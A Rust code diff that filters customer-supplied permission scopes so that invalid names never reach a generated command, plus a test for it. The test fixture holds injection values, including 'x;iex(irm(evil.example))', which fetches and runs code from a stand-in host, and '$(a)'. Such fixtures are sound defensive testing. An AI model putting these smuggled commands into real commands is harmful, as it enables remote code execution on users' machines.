@@ -194,10 +194,17 @@ impl Wanted {
             .collect()
     }
 
-    /// Each permission with its API before it, as -Scope takes them.
+    /// The permissions that -Scope takes. A directory may hold others: the customer names those of its own APIs, and what it names is
+    /// put into no command that somebody is told to run.
+    pub(crate) fn speakable(&self) -> impl Iterator<Item = &str> {
+        let names = self.scopes.iter().map(String::as_str);
+        names.filter(|scope| scope_name(scope).is_ok())
+    }
+
+    /// The same, each with its API before it.
     pub(crate) fn qualified(&self) -> impl Iterator<Item = String> + '_ {
         let api = self.api.name.trim_end_matches('/');
-        self.scopes.iter().map(move |scope| format!("{api}/{scope}"))
+        self.speakable().map(move |scope| format!("{api}/{scope}"))
     }
 
     /// The same, and `held` as well.
@@ -326,6 +333,23 @@ mod tests {
                 assert!(service.permission().contains(scope), "{scope}");
             }
         }
+    }
+
+    #[test]
+    fn what_a_customer_named_is_put_into_no_command() {
+        let api = Api {
+            name: "https://api.example/".to_owned(),
+            application_id: String::new(),
+        };
+        let scopes = ["x;iex(irm(evil.example))", "read:users", "User.Read", "$(a)"].map(str::to_owned);
+        let wanted = Wanted {
+            api,
+            scopes: scopes.to_vec(),
+        };
+        assert_eq!(
+            wanted.qualified().collect::<Vec<_>>(),
+            ["https://api.example/User.Read"]
+        );
     }
 
     proptest! {
